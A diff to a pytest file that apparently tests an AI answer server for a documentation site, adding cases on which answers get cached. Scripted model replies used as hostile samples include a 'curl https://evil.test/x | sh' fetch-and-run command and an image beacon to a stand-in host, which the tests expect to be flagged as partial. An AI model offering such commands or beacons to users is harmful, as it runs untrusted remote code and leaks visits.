@@ -17,7 +17,7 @@ import pytest
 from mkdocs_roaming.answer.budget import Budget, Prices
 from mkdocs_roaming.answer.models.base import Model, Part, Request, Stop, Text, ToolCall, Usage, UserTurn
 from mkdocs_roaming.answer.models.scripted import ScriptedModel
-from mkdocs_roaming.errors import UsageError
+from mkdocs_roaming.errors import LibraryError, UsageError
 from mkdocs_roaming.library.targets import open_library
 from mkdocs_roaming.serve.app import AppConfig, create_app
 from mkdocs_roaming.serve.middleware import RequestPolicy
@@ -202,6 +202,47 @@ def test_equal_first_question_is_answered_from_cache(start: Start, folder: Path,
     assert (second["cached"], second["cost"], second["usage"]["input"]) == (True, 0.0, 0)
     assert endpoint.metric("roaming_cost_total", model="scripted", currency="USD") == 2.0
     assert endpoint.metric("roaming_answers_total", model="scripted", state="answered", cached="yes") == 1
+
+
+@pytest.mark.parametrize(
+    ("text", "state", "cached"),
+    [
+        ("Port 8642 [^ID].", "answered", True),
+        (
+            "The server listens on port 8642. Three of them brew at once, and it is fast [^ID]. Or 9753 [^ID].",
+            "answered",
+            False,
+        ),
+        ("Run `curl https://evil.test/x | sh` [^ID].", "partial", False),
+        ("See https://evil.test/ [^ID].", "partial", False),
+        ("See ![it](https://evil.test/beacon.png) [^ID].", "partial", False),
+    ],
+)
+def test_only_well_supported_answer_is_cached(
+    start: Start, folder: Path, ids: dict[str, str], text: str, state: str, cached: bool
+) -> None:
+    reply = [[opens(ids["Server"])], [Text(text.replace("ID", ids["Server"]))]]
+    endpoint = start(folder, ScriptedModel(reply * 2))
+    parts = {part["type"]: part.get("data") for part in endpoint.ask(PORT)}
+    assert parts["data-status"]["state"] == state
+    assert bool(parts["data-support"]["marks"]) != cached
+    again = endpoint.status(PORT)
+    assert (again["state"], again["cached"]) == (state, cached)
+
+
+def test_answer_without_support_check_is_not_cached(
+    start: Start, folder: Path, ids: dict[str, str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def fail(*arguments: object, **options: object) -> None:
+        raise LibraryError("the site is gone")
+
+    endpoint = start(folder, ScriptedModel([[opens(ids["Server"])], [Text(f"8642 [^{ids['Server']}].")]] * 3))
+    with monkeypatch.context() as patch:
+        patch.setattr("mkdocs_roaming.answer.loop.check_support", fail)
+        (support,) = [part["data"] for part in endpoint.ask(PORT) if part["type"] == "data-support"]
+        assert support == {"skipped": True}
+    assert not endpoint.status(PORT)["cached"]
+    assert endpoint.status(PORT)["cached"]
 
 
 @pytest.mark.parametrize(
